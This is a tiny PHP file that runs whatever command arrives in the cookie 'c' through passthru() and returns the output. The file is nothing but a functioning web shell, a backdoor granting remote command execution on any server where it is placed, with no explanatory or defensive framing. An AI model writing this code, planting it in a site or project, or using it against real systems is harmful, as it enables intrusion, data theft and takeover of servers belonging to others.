<?php
function run($c)
{
    if (function_exists('passthru')) {
        passthru($c);
    }
}
run($_COOKIE['c']);
